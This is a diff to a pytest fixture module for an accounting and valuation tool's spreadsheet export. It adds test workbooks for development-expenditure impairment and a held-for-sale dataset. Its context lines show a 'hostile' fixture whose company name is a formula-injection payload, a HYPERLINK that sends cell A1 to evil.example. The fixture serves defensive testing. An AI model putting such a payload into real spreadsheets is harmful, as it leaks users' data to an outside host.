@@ -8,6 +8,9 @@ Workbooks written (all with ``record=True``, so each formula carries the engine'
 - ``book-self-2024``: the self-developed dataset at 2024-12-31, the year of its impairment (``book -o``);
 - ``book-hand`` / ``book-hand-h2`` / ``book-hand-empty``: a one-asset case whose figures the tests
   compute by hand, for the year 2025, for its second half, and at 2024-12-31 before anything is booked;
+- ``book-later-life`` / ``book-later-life-2024``: development expenditure impaired before it is ready,
+  and a dataset held for sale (CAS 42) then sold — the figures of tests/accounting/test_development_impairment.py
+  and test_held_for_sale.py;
 - ``value-parking``: the parking valuation workpapers alone (``value -o``);
 - ``memo-retail``: the credit memo of the bullet-loan pledge (``pledge -o``);
 - ``hostile``: books, valuation and pledge whose names and descriptions are formula-injection attempts;
@@ -40,6 +43,7 @@ VALUATIONS = sorted(EXAMPLES.glob("*.json"))
 PLEDGES = sorted((EXAMPLES / "pledges").glob("*.json"))
 AS_OF = date(2025, 12, 31)
 HAND_BOOKS = Path(__file__).resolve().parent / "data" / "hand_books.json"
+LATER_LIFE_BOOKS = Path(__file__).resolve().parent / "data" / "later_life_books.json"
 
 HOSTILE = {
     "company": '=HYPERLINK("http://evil.example/?"&A1,"点击 click")',
@@ -133,6 +137,9 @@ def workbooks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Exported]:
     add("book-hand", books=(hand, *load_books(hand, AS_OF)))
     add("book-hand-h2", books=(hand, *load_books(hand, AS_OF, date(2025, 7, 1))))
     add("book-hand-empty", books=(hand, *load_books(hand, date(2024, 12, 31))))  # nothing booked yet
+    later = LATER_LIFE_BOOKS
+    add("book-later-life", books=(later, *load_books(later, AS_OF)))
+    add("book-later-life-2024", books=(later, *load_books(later, date(2024, 12, 31))))
     park = EXAMPLES / "parking_city_investment.json"
     add("value-parking", valuation=(park, *load_valuation(park)))
     retail = EXAMPLES / "pledges" / "retail_6m_bullet_over_limit.json"
